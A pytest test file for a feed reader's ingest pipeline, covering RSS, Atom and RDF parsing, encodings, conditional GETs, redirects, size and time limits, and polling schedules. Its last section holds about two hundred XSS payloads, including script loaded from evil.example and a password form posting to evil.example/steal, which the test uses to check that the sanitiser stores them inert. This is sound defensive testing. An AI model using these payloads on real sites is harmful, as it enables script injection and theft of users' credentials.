"""Feed ingest end to end: feeds served over real HTTP, polled, stored and listed.

Parsing and sanitising one document is covered by test_feeds.py; here every feed goes
through the fetcher (conditional GET, limits on size, redirects and time), poll_feed,
the worker's tasks and the CLI, against a scripted server on loopback.
"""

from __future__ import annotations

import functools
import html
import json
import os
import re
import subprocess
import sys
import time
import tracemalloc
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import selectinload

from gazette.articles import ALLOWED_TAGS
from gazette.feeds import IngestResult, add_feed, due_feeds, poll_feed
from gazette.fetch import MAX_REDIRECTS, fetch
from gazette.runtime import Runtime
from gazette.store.db import transaction
from gazette.store.models import Article, Feed
from tests.conftest import make_env
from tests.feedserver import BIG, Fail, FeedServer, Redirect, serve_feeds

FAST = functools.partial(fetch, timeout=httpx.Timeout(1.0))
MB = 1024 * 1024


@pytest.fixture
def feeds() -> Iterator[FeedServer]:
    with serve_feeds() as server:
        yield server


# --- helpers ---------------------------------------------------------------------------


def register(runtime: Runtime, url: str, **options: Any) -> int:
    with transaction(runtime.sessions) as session:
        return add_feed(session, url, **options)


def stored(runtime: Runtime) -> list[Article]:
    with runtime.sessions() as session:
        query = select(Article).options(selectinload(Article.topics)).order_by(Article.id)
        return list(session.scalars(query))


def article_count(runtime: Runtime) -> int:
    with runtime.sessions() as session:
        return session.scalar(select(func.count()).select_from(Article)) or 0


def feed_row(runtime: Runtime, feed_id: int) -> Feed:
    with runtime.sessions() as session:
        return session.get_one(Feed, feed_id)


def one_sentence(message: str | None) -> str:
    assert message, "expected a reason"
    assert "\n" not in message
    assert message.endswith("."), message
    assert len(re.findall(r"[.!?](?:\s|$)", message)) == 1, message
    return message


def rss_item(
    n: int,
    title: str,
    *,
    host: str = "news.example.org",
    description: str = "",
    content: str | None = None,
    date: str = "Wed, 18 Nov 2026 10:00:00 +0000",
    categories: tuple[str, ...] = (),
    cdata: bool = False,
) -> str:
    parts = [
        f"<item><title>{escape(title)}</title>",
        f"<link>https://{host}/{n}</link>",
        f'<guid isPermaLink="false">{host}-{n}</guid>',
        f"<pubDate>{date}</pubDate>",
        f"<description>{escape(description)}</description>",
        *(f"<category>{escape(c)}</category>" for c in categories),
    ]
    if content is not None:
        # WordPress wraps content:encoded in CDATA; escaping it is the same document.
        raw = f"<![CDATA[{content}]]>" if cdata and "]]>" not in content else escape(content)
        parts.append(f"<content:encoded>{raw}</content:encoded>")
    return "".join(parts) + "</item>\n"


def rss(*items: str, encoding: str = "utf-8", title: str = "Test feed") -> bytes:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        f"<title>{escape(title)}</title><link>https://news.example.org/</link>"
        f"<description>Tests</description>\n{''.join(items)}</channel></rss>\n"
    ).encode(encoding)


def simple_feed(count: int, host: str = "news.example.org") -> bytes:
    return rss(*(rss_item(n, f"Story {n}", host=host) for n in range(1, count + 1)))


# --- formats ---------------------------------------------------------------------------

WORDPRESS = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
	xmlns:slash="http://purl.org/rss/1.0/modules/slash/"
	>
<channel>
	<title>Harbour Notes</title>
	<atom:link href="https://harbour.example.org/feed/" rel="self" type="application/rss+xml" />
	<link>https://harbour.example.org</link>
	<description>Notes from the harbour</description>
	<lastBuildDate>Wed, 18 Nov 2026 10:12:45 +0000</lastBuildDate>
	<language>en-GB</language>
	<sy:updatePeriod>hourly</sy:updatePeriod>
	<sy:updateFrequency>1</sy:updateFrequency>
	<generator>https://wordpress.org/?v=6.7.1</generator>
	<item>
		<title>Tides &#038; Timetables: The &#8220;Spring&#8221; Schedule</title>
		<link>https://harbour.example.org/2026/11/18/tides-timetables/</link>
		<comments>https://harbour.example.org/2026/11/18/tides-timetables/#respond</comments>
		<dc:creator><![CDATA[Mara Lind]]></dc:creator>
		<pubDate>Wed, 18 Nov 2026 10:12:45 +0000</pubDate>
		<category><![CDATA[Transport]]></category>
		<category><![CDATA[Harbour Life]]></category>
		<guid isPermaLink="false">https://harbour.example.org/?p=1042</guid>
		<description><![CDATA[The spring timetable adds two early ferries &#8230; <a class="more-link" href="https://harbour.example.org/2026/11/18/tides-timetables/">Continue reading</a>]]></description>
		<content:encoded><![CDATA[<p>The spring timetable adds <strong>two early ferries</strong> &amp; a late one.</p>
<p style="color:red" onclick="track()">Tickets go on sale on <a href="https://harbour.example.org/tickets/" target="_blank" onmouseover="track()">Monday</a>.</p>
<script>window.track && track('view');</script>
<figure class="wp-block-image"><img src="https://harbour.example.org/wp-content/uploads/ferry.jpg" alt="Ferry" width="640" height="480" /></figure>
]]></content:encoded>
		<wfw:commentRss>https://harbour.example.org/2026/11/18/tides-timetables/feed/</wfw:commentRss>
		<slash:comments>0</slash:comments>
	</item>
	<item>
		<title>Winter Moorings</title>
		<link>https://harbour.example.org/2026/11/10/winter-moorings/</link>
		<dc:creator><![CDATA[Jon Berg]]></dc:creator>
		<pubDate>Tue, 10 Nov 2026 08:00:00 +0100</pubDate>
		<category><![CDATA[Harbour Life]]></category>
		<guid isPermaLink="false">https://harbour.example.org/?p=1037</guid>
		<description><![CDATA[<p>Moorings move to the <em>inner basin</em> from December.</p>]]></description>
	</item>
</channel>
</rss>
"""  # noqa: E501


def test_wordpress_feed_summary_comes_from_content_encoded(
    runtime: Runtime, feeds: FeedServer
) -> None:
    url = feeds.static("/feed/", WORDPRESS.encode(), charset="UTF-8")
    feed_id = register(runtime, url)

    result = poll_feed(runtime.sessions, feed_id)

    assert result.error is None
    assert result.ingest == IngestResult(2, 0, 0, 0)
    [request] = feeds.requests("/feed/")
    assert request.headers["user-agent"].startswith("Gazette/")
    tides, moorings = stored(runtime)
    assert tides.title == "Tides & Timetables: The \u201cSpring\u201d Schedule"
    assert tides.author == "Mara Lind"
    assert tides.language == "en"
    assert tides.guid == "https://harbour.example.org/?p=1042"
    assert tides.feed_id == feed_id
    assert tides.published_at == datetime(2026, 11, 18, 10, 12, 45, tzinfo=UTC)
    assert {t.slug for t in tides.topics} == {"transport", "harbour-life"}
    # The full text of content:encoded, not the teaser in description...
    assert "<strong>two early ferries</strong> &amp; a late one." in tides.summary
    assert "Continue reading" not in tides.summary
    # ...cleaned to the allow-list.
    tags = parse_html(tides.summary)
    assert {t for t, _ in tags} <= {"p", "strong", "a"}
    [(_, link)] = [(t, a) for t, a in tags if t == "a"]
    assert link["href"] == "https://harbour.example.org/tickets/"
    assert set(link) == {"href", "rel"}
    for needle in ("<script", "track", "style=", "onclick", "<img", "<figure", "target="):
        assert needle not in tides.summary
    # Without content:encoded the description is the summary.
    assert moorings.summary == "<p>Moorings move to the <em>inner basin</em> from December.</p>"
    assert moorings.published_at == datetime(2026, 11, 10, 7, 0, tzinfo=UTC)


ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="uk">
  <title>Міські нотатки</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2026-11-21T12:00:00Z</updated>
  <link rel="self" href="https://atom.example.org/feed.atom"/>
  <link href="https://atom.example.org/"/>
  <author><name>Редакція</name></author>
  <entry>
    <title>Нова лінія метро</title>
    <link rel="replies" href="https://atom.example.org/2026/metro#comments"/>
    <link rel="alternate" type="text/html" href="https://atom.example.org/2026/metro"/>
    <id>tag:atom.example.org,2026:metro</id>
    <published>2026-11-20T09:00:00+02:00</published>
    <updated>2026-11-21T12:00:00Z</updated>
    <author><name>Оксана Коваль</name></author>
    <category term="Transport"/>
    <summary>Коротко.</summary>
    <content type="html">&lt;p&gt;Повний &lt;b&gt;текст&lt;/b&gt; &amp;amp; більше.&lt;/p&gt;&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;</content>
  </entry>
  <entry>
    <title type="text">Parks &amp; &lt;shade&gt;</title>
    <link href="https://atom.example.org/2026/parks"/>
    <id>tag:atom.example.org,2026:parks</id>
    <updated>2026-11-19T06:30:00-05:00</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Shade <em>cools</em> streets.</p></div></content>
  </entry>
</feed>
"""  # noqa: E501


def test_atom_feed(runtime: Runtime, feeds: FeedServer) -> None:
    url = feeds.static("/feed.atom", ATOM.encode(), content_type="application/atom+xml")
    feed_id = register(runtime, url)

    result = poll_feed(runtime.sessions, feed_id)

    assert result.ingest == IngestResult(2, 0, 0, 0), result
    metro, parks = stored(runtime)
    assert metro.title == "Нова лінія метро"
    assert metro.url == "https://atom.example.org/2026/metro"  # rel=alternate, not replies
    assert metro.guid == "tag:atom.example.org,2026:metro"
    # published wins over updated; the offset is folded into UTC.
    assert metro.published_at == datetime(2026, 11, 20, 7, 0, tzinfo=UTC)
    assert metro.author == "Оксана Коваль"
    assert metro.language == "uk"
    assert {t.slug for t in metro.topics} == {"transport"}
    # content type="html" is unescaped once, then cleaned; it wins over summary.
    assert metro.summary == "<p>Повний <b>текст</b> &amp; більше.</p>"
    # Only updated: that is the date; a text title keeps its characters as text.
    assert parks.published_at == datetime(2026, 11, 19, 11, 30, tzinfo=UTC)
    assert parks.title == "Parks & <shade>"
    assert parks.summary == "<p>Shade <em>cools</em> streets.</p>"


ATOM_HTML_TITLE = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>T</title><id>urn:t</id><updated>2026-11-21T12:00:00Z</updated>
  <entry>
    <title type="html">Tom &amp;amp; Jerry &lt;em&gt;say&lt;/em&gt; &amp;quot;hi&amp;quot;</title>
    <link href="https://atom.example.org/tom"/>
    <id>urn:tom</id>
    <updated>2026-11-21T12:00:00Z</updated>
  </entry>
</feed>
"""


def test_atom_html_title_is_stored_as_plain_text(runtime: Runtime, feeds: FeedServer) -> None:
    # type="html" means the title is markup: the reader's text is Tom & Jerry say "hi".
    url = feeds.static("/html-title.atom", ATOM_HTML_TITLE.encode())
    result = poll_feed(runtime.sessions, register(runtime, url))
    assert result.ingest is not None
    assert result.ingest.added == 1
    [article] = stored(runtime)
    assert article.title == 'Tom & Jerry say "hi"'


RDF = """<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example.org/">
    <title>Institut</title>
    <link>https://rdf.example.org/</link>
    <description>Nachrichten</description>
    <dc:language>de</dc:language>
    <items><rdf:Seq>
      <rdf:li rdf:resource="https://rdf.example.org/eins"/>
      <rdf:li rdf:resource="https://rdf.example.org/zwei"/>
    </rdf:Seq></items>
  </channel>
  <item rdf:about="https://rdf.example.org/eins">
    <title>Erste Nachricht</title>
    <link>https://rdf.example.org/eins</link>
    <description>Die &lt;b&gt;erste&lt;/b&gt; Meldung &amp;amp; mehr.</description>
    <dc:date>2026-11-05T08:00:00+01:00</dc:date>
    <dc:creator>Karl Weber</dc:creator>
    <dc:subject>Wissenschaft</dc:subject>
  </item>
  <item rdf:about="https://rdf.example.org/zwei">
    <title>Zweite Nachricht</title>
    <link>https://rdf.example.org/zwei</link>
    <description>Noch eine.</description>
    <dc:date>2026-11-06T08:00:00Z</dc:date>
  </item>
</rdf:RDF>
"""


def test_rss_1_0_rdf_feed(runtime: Runtime, feeds: FeedServer) -> None:
    url = feeds.static("/index.rdf", RDF.encode(), content_type="application/rdf+xml")
    result = poll_feed(runtime.sessions, register(runtime, url))

    assert result.ingest == IngestResult(2, 0, 0, 0), result
    first, second = stored(runtime)
    assert (first.title, first.url) == ("Erste Nachricht", "https://rdf.example.org/eins")
    assert first.published_at == datetime(2026, 11, 5, 7, 0, tzinfo=UTC)
    assert first.author == "Karl Weber"
    assert first.language == "de"
    assert first.summary == "Die <b>erste</b> Meldung &amp; mehr."
    assert {t.slug for t in first.topics} == {"wissenschaft"}
    assert second.published_at == datetime(2026, 11, 6, 8, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("encoding", "titles", "summary"),
    [
        pytest.param(
            "windows-1251",
            ["Київ: нова лінія метро", "Їжак і ґава — «Щедрик»"],
            "Опис & «лапки»",
            id="windows-1251",
        ),
        pytest.param(
            "shift_jis",
            ["地方鉄道の再生：乗客が戻る路線の条件", "在宅勤務は地方経済を変えるか"],
            "東京と大阪 & 「引用」",
            id="shift_jis",
        ),
    ],
)
def test_feed_in_a_legacy_encoding(
    runtime: Runtime, feeds: FeedServer, encoding: str, titles: list[str], summary: str
) -> None:
    document = rss(
        rss_item(1, titles[0], description=summary),
        rss_item(2, titles[1], date="Thu, 19 Nov 2026 10:00:00 +0000"),
        encoding=encoding,
    )
    assert titles[0].encode() not in document  # really not UTF-8 on the wire
    url = feeds.static(f"/{encoding}.xml", document, charset=encoding)

    result = poll_feed(runtime.sessions, register(runtime, url))

    assert result.ingest is not None
    assert result.ingest.added == 2
    articles = stored(runtime)
    assert [a.title for a in articles] == titles
    assert html.unescape(articles[0].summary) == summary


# --- failures --------------------------------------------------------------------------

GOOD = simple_feed(2, host="good.example.org")
# A feed cut off by a dropped connection or a full disk on the publisher's side.
CUT_IN_HEADER = GOOD[: GOOD.index(b"<description>")]
CUT_IN_ITEM = GOOD[: GOOD.index(b"<pubDate>")]
CUT_AFTER_ITEMS = GOOD[: GOOD.rindex(b"</item>") + len(b"</item>") + 1] + b"<item><title>Thr"


def test_malformed_feed_records_a_reason_and_the_others_still_ingest(
    runtime: Runtime, feeds: FeedServer
) -> None:
    from worker import tasks

    bad = register(runtime, feeds.static("/bad.xml", CUT_IN_HEADER))
    good = register(runtime, feeds.static("/good.xml", GOOD))

    tasks.poll_due_feeds()  # the worker's beat task: polls every due feed, bad one first

    bad_feed, good_feed = feed_row(runtime, bad), feed_row(runtime, good)
    reason = one_sentence(bad_feed.last_error)
    assert bad_feed.url in reason
    assert "RSS or Atom" in reason
    assert bad_feed.last_polled_at is not None
    assert good_feed.last_error is None
    articles = stored(runtime)
    assert [a.title for a in articles] == ["Story 1", "Story 2"]
    assert {a.feed_id for a in articles} == {good}


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(CUT_IN_ITEM, id="cut-inside-the-first-item"),
        pytest.param(CUT_AFTER_ITEMS, id="cut-after-complete-items"),
    ],
)
def test_truncated_feed_stores_nothing_and_says_why(
    runtime: Runtime, feeds: FeedServer, document: bytes
) -> None:
    feed_id = register(runtime, feeds.static("/truncated.xml", document))

    result = poll_feed(runtime.sessions, feed_id)

    reason = one_sentence(feed_row(runtime, feed_id).last_error)
    assert result.error == reason
    assert result.ingest is None
    assert article_count(runtime) == 0


@pytest.mark.parametrize("validators", ["etag", "last-modified", "both"])
def test_unchanged_feed_is_a_304_and_stores_nothing(
    runtime: Runtime, feeds: FeedServer, validators: str
) -> None:
    etag = '"v1-5f2a"' if validators in ("etag", "both") else None
    modified = "Wed, 18 Nov 2026 10:12:45 GMT" if validators != "etag" else None
    url = feeds.static("/cond.xml", simple_feed(2), etag=etag, last_modified=modified)
    feed_id = register(runtime, url)

    first = poll_feed(runtime.sessions, feed_id)
    assert first.ingest == IngestResult(2, 0, 0, 0)
    assert not first.not_modified
    feed = feed_row(runtime, feed_id)
    assert (feed.etag, feed.last_modified) == (etag, modified)
    polled_first = feed.last_polled_at
    ids = [a.id for a in stored(runtime)]

    second = poll_feed(runtime.sessions, feed_id)

    one, two = feeds.requests("/cond.xml")
    assert "if-none-match" not in one.headers
    assert "if-modified-since" not in one.headers
    assert two.headers.get("if-none-match") == etag
    assert two.headers.get("if-modified-since") == modified
    assert two.status == 304
    assert second.not_modified
    assert second.ingest is None
    assert second.error is None
    assert "not modified" in second.summary()
    assert [a.id for a in stored(runtime)] == ids
    feed = feed_row(runtime, feed_id)
    assert (feed.etag, feed.last_modified, feed.last_error) == (etag, modified, None)
    assert polled_first is not None
    assert feed.last_polled_at is not None
    assert feed.last_polled_at >= polled_first

    # When the feed does change, the new validators are kept and the new item stored.
    new_etag = '"v2-77c1"' if etag else None
    new_modified = "Thu, 19 Nov 2026 08:00:00 GMT" if modified else None
    feeds.static("/cond.xml", simple_feed(3), etag=new_etag, last_modified=new_modified)
    third = poll_feed(runtime.sessions, feed_id)
    assert third.ingest == IngestResult(1, 0, 2, 0)
    feed = feed_row(runtime, feed_id)
    assert (feed.etag, feed.last_modified) == (new_etag, new_modified)


@pytest.mark.parametrize("server", ["no-validators", "validators-ignored"])
def test_polling_twice_without_304_stores_nothing_new(
    runtime: Runtime, feeds: FeedServer, server: str
) -> None:
    if server == "no-validators":
        url = feeds.static("/plain.xml", WORDPRESS.encode())
    else:
        url = feeds.static("/plain.xml", WORDPRESS.encode(), etag='"abc"', honour_conditional=False)
    feed_id = register(runtime, url, topic="Harbour")

    first = poll_feed(runtime.sessions, feed_id)
    before = [(a.id, a.title, a.summary, a.published_at) for a in stored(runtime)]
    second = poll_feed(runtime.sessions, feed_id)

    assert first.ingest == IngestResult(2, 0, 0, 0)
    assert second.ingest == IngestResult(0, 0, 2, 0)
    assert not second.not_modified
    assert [r.status for r in feeds.requests("/plain.xml")] == [200, 200]
    assert [(a.id, a.title, a.summary, a.published_at) for a in stored(runtime)] == before


def test_a_moved_feed_is_followed(runtime: Runtime, feeds: FeedServer) -> None:
    feeds.static("/new-home.xml", simple_feed(1))
    url = feeds.route("/old-home.xml", Redirect("/new-home.xml", status=301))
    result = poll_feed(runtime.sessions, register(runtime, url))
    assert result.ingest == IngestResult(1, 0, 0, 0)


def test_redirect_loop_is_an_error_naming_redirects(runtime: Runtime, feeds: FeedServer) -> None:
    feed_id = register(runtime, feeds.url("/loop"))

    result = poll_feed(runtime.sessions, feed_id, FAST)

    reason = one_sentence(result.error)
    assert "redirect" in reason.lower()
    assert str(MAX_REDIRECTS) in reason
    assert feed_row(runtime, feed_id).last_error == reason
    hops = len(feeds.requests("/loop")) + len(feeds.requests("/loop2"))
    assert MAX_REDIRECTS <= hops <= MAX_REDIRECTS + 1
    assert article_count(runtime) == 0


def test_50_mb_response_is_refused_without_reading_it_all(
    runtime: Runtime, feeds: FeedServer
) -> None:
    feed_id = register(runtime, feeds.url("/big"))

    tracemalloc.start()
    try:
        result = poll_feed(runtime.sessions, feed_id, FAST)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    reason = one_sentence(result.error)
    assert "10 MB limit" in reason
    assert feed_row(runtime, feed_id).last_error == reason
    [request] = feeds.settle("/big")
    assert request.status == -1  # the client hung up mid-body
    assert feeds.bytes_sent("/big") < 25 * MB < BIG
    assert peak < 25 * MB, f"peak {peak / MB:.1f} MB"
    assert article_count(runtime) == 0


def test_declared_50_mb_response_is_refused_before_the_body(
    runtime: Runtime, feeds: FeedServer
) -> None:
    feed_id = register(runtime, feeds.url("/big-declared"))

    result = poll_feed(runtime.sessions, feed_id, FAST)

    reason = one_sentence(result.error)
    assert "over the 10 MB limit" in reason
    feeds.settle("/big-declared")
    assert feeds.bytes_sent("/big-declared") < 10 * MB


def test_server_error_is_recorded_with_its_status(runtime: Runtime, feeds: FeedServer) -> None:
    feed_id = register(runtime, feeds.url("/error"))

    result = poll_feed(runtime.sessions, feed_id, FAST)

    reason = one_sentence(result.error)
    assert "HTTP 500" in reason
    # The reason names the URL; the poll's line does not say it a second time.
    assert result.summary() == f"Feed {feed_id} failed: {reason}"
    assert result.summary().count(feeds.url("/error")) == 1
    assert feed_row(runtime, feed_id).last_error == reason


def test_slow_server_times_out(runtime: Runtime, feeds: FeedServer) -> None:
    feed_id = register(runtime, feeds.url("/slow"))

    started = time.monotonic()
    result = poll_feed(runtime.sessions, feed_id, FAST)
    elapsed = time.monotonic() - started

    reason = one_sentence(result.error)
    assert "time limit" in reason
    assert elapsed < 4.0  # the route answers after 5 s
    assert feed_row(runtime, feed_id).last_error == reason


def test_an_error_is_cleared_by_the_next_good_poll(runtime: Runtime, feeds: FeedServer) -> None:
    url = feeds.route("/flaky.xml", Fail(503))
    feed_id = register(runtime, url)
    assert poll_feed(runtime.sessions, feed_id, FAST).error
    assert feed_row(runtime, feed_id).last_error

    feeds.static("/flaky.xml", simple_feed(1))
    assert poll_feed(runtime.sessions, feed_id, FAST).ingest == IngestResult(1, 0, 0, 0)
    assert feed_row(runtime, feed_id).last_error is None


def test_feed_topic_is_given_to_every_article(runtime: Runtime, feeds: FeedServer) -> None:
    with_topic = register(runtime, feeds.static("/wp.xml", WORDPRESS.encode()), topic="Research")
    without = register(runtime, feeds.static("/plain.xml", simple_feed(1, "plain.example.org")))

    poll_feed(runtime.sessions, with_topic)
    poll_feed(runtime.sessions, without)

    slugs = [(a.feed_id, {t.slug for t in a.topics}) for a in stored(runtime)]
    assert slugs == [
        (with_topic, {"research", "transport", "harbour-life"}),
        (with_topic, {"research", "harbour-life"}),
        (without, set()),
    ]


def test_due_feeds_returns_a_feed_again_only_after_its_interval(
    runtime: Runtime, feeds: FeedServer
) -> None:
    from worker import tasks

    quarter = register(runtime, feeds.static("/a.xml", simple_feed(1, "a.example.org")))
    hourly = register(
        runtime,
        feeds.static("/b.xml", simple_feed(1, "b.example.org")),
        interval_minutes=60,
    )
    broken = register(runtime, feeds.url("/error"))
    with runtime.sessions() as session:
        assert due_feeds(session, datetime.now(UTC)) == [quarter, hourly, broken]

    tasks.poll_due_feeds()
    tasks.poll_due_feeds()  # a minute later, say: nothing is due again yet

    for path in ("/a.xml", "/b.xml", "/error"):
        assert len(feeds.requests(path)) == 1, path  # a failing feed is not hammered
    polled = {i: feed_row(runtime, i).last_polled_at for i in (quarter, hourly, broken)}
    assert all(polled.values())
    start = max(p for p in polled.values() if p is not None)
    with runtime.sessions() as session:
        assert due_feeds(session, start) == []
        assert due_feeds(session, start + timedelta(minutes=14, seconds=59)) == []
        assert due_feeds(session, start + timedelta(minutes=15)) == [quarter, broken]
        assert due_feeds(session, start + timedelta(minutes=60)) == [quarter, hourly, broken]


# --- hostile content -------------------------------------------------------------------

EVENTS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onmouseenter",
    "onanimationstart", "ontoggle", "onpointerdown", "onkeydown", "onkeyup", "oninput",
    "onchange", "onsubmit", "onbegin", "onend", "onwheel", "oncopy", "onpaste",
    "onauxclick", "ondblclick", "ondrag", "onscroll", "onresize", "onbeforeunload",
    "onhashchange", "onpageshow", "onmessage", "onreadystatechange", "ontransitionend",
    "onplay", "oncanplay", "onloadstart", "onshow", "onselect", "oncut", "onsearch",
    "onformdata", "onpointerenter",
]  # fmt: skip
ELEMENTS = [
    ("img", "src=x"), ("body", ""), ("svg", ""), ("div", ""), ("input", "autofocus"),
    ("details", "open"), ("video", "src=x"), ("a", "href=#"), ("p", ""), ("marquee", ""),
]  # fmt: skip
BAD_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(2)", " javascript:alert(3)",
    "java\tscript:alert(4)", "java&#x09;script:alert(5)", "jav&#x0A;ascript:alert(6)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(7)",
    "&#x6A;avascript:alert(8)", "javascript&colon;alert(9)", "javascript://%0Aalert(10)",
    "vbscript:msgbox(11)", "VBScript:MsgBox(12)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=",
    "DATA:text/html,<script>alert(14)</script>", "data:image/svg+xml,<svg onload=alert(15)>",
    "livescript:alert(16)",
]  # fmt: skip
URL_HOLDERS = [
    '<a href="{u}">link</a>', "<img src='{u}'>", '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>go</button></form>', '<object data="{u}"></object>',
    '<embed src="{u}">', '<button formaction="{u}">x</button>', '<a href={u}>bare</a>',
]  # fmt: skip
TAG_PAYLOADS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>", "<script>alert(1)//",
    "<script >alert(String.fromCharCode(88,83,83))</script >",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image: url(javascript:alert(1))">x</p>',
    "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<IFRAME SRC="javascript:alert(1)"></IFRAME>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
    '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example/">',
    "<svg><script>alert(1)</script></svg>", '<svg><animate onbegin="alert(1)" attributeName=x>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<base href="javascript:alert(1)//">', '<link rel="stylesheet" href="javascript:alert(1)">',
    "<img src=x onerror=alert(1)", '<img """><script>alert(1)</script>">',
    "<img\nsrc=x\nonerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=\"https://ok.example/\" onclick='alert(1)'>ok</a>",
    '<a href="https://ok.example/" style="position:fixed;top:0">overlay</a>',
    "&lt;script&gt;alert('entity-escaped text')&lt;/script&gt;",
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    "<x onclick=alert(1)>click</x>", '<isindex action="javascript:alert(1)" type=image>',
    '<div onmouseover="alert(1)"\u2028>line separator</div>', "<body onload\x85=alert(1)>",
]  # fmt: skip


def xss_payloads() -> list[str]:
    """Two hundred known XSS vectors, distinct, in many spellings."""
    payloads: list[str] = []
    for i, event in enumerate(EVENTS):
        tag, extra = ELEMENTS[i % len(ELEMENTS)]
        payloads.append(f"<{tag} {extra} {event}=alert({i})>e{i}</{tag}>")
        payloads.append(f'<{tag.upper()} {extra.upper()} {event.upper()}="alert({i})">')
    for url in BAD_URLS:
        for holder in URL_HOLDERS[:5] if url.startswith(("d", "D")) else URL_HOLDERS:
            payloads.append(holder.format(u=url))
    payloads.extend(TAG_PAYLOADS)
    unique = list(dict.fromkeys(payloads))
    assert len(unique) >= 200, len(unique)
    return unique[:200]


PLAIN_TITLE = "Tom & Jerry: \"double\" and 'single' quotes — Київ, 東京"
PLAIN_TEXT = "Tom & Jerry say \"double\" and 'single' — Київ, Львів; 東京と大阪"


class Tags(HTMLParser):
    """Every start tag of a fragment with its attributes (entities already decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def parse_html(fragment: str) -> list[tuple[str, dict[str, str]]]:
    parser = Tags()
    parser.feed(fragment)
    parser.close()
    return parser.found


def xss_feed(payloads: list[str]) -> bytes:
    items = []
    for n, payload in enumerate(payloads):
        title = f"Item {n} {payload}"
        if n % 2:  # the summary comes from description
            items.append(rss_item(n, title, description=payload))
        else:  # content:encoded wins over description
            body = f"<p>Body {n}</p>{payload}"
            items.append(rss_item(n, title, description="teaser", content=body, cdata=True))
    items.append(
        rss_item(
            9000,
            PLAIN_TITLE,
            content=f"<p>{html.escape(PLAIN_TEXT, quote=False)}</p>",
            categories=("Київ", "東京"),
        )
    )
    return rss(*items, title="Hostile <b>feed</b>")


def test_xss_payloads_in_a_served_feed_are_stored_inert(
    runtime: Runtime, feeds: FeedServer
) -> None:
    payloads = xss_payloads()
    assert len(payloads) == 200
    url = feeds.static("/hostile.xml", xss_feed(payloads))

    result = poll_feed(runtime.sessions, register(runtime, url))

    assert result.ingest == IngestResult(201, 0, 0, 0), result
    articles = stored(runtime)
    assert len(articles) == 201
    safe_schemes = ("http://", "https://", "mailto:")
    for article in articles:
        where = f"{article.guid}: {article.summary!r}"
        lowered = article.summary.lower()
        for needle in ("<script", "<style", "<iframe", "<object", "<embed", "<svg", "<form",
                       "<meta", "<img", "<base", "<link", "<math"):  # fmt: skip
            assert needle not in lowered, where
        for tag, attributes in parse_html(article.summary):
            assert tag in ALLOWED_TAGS, where
            assert not any(name.startswith("on") for name in attributes), where
            assert set(attributes) <= {"href", "title", "rel"}, where
            for name in ("href", "src", "action", "formaction", "data"):
                if name in attributes:
                    value = re.sub(r"[\x00-\x20]", "", attributes[name]).lower()
                    assert not value.startswith(("javascript:", "vbscript:", "data:")), where
                    assert value.startswith(safe_schemes) or ":" not in value.split("/")[0]
        title = article.title
        assert title, article.guid
        assert title == title.strip()
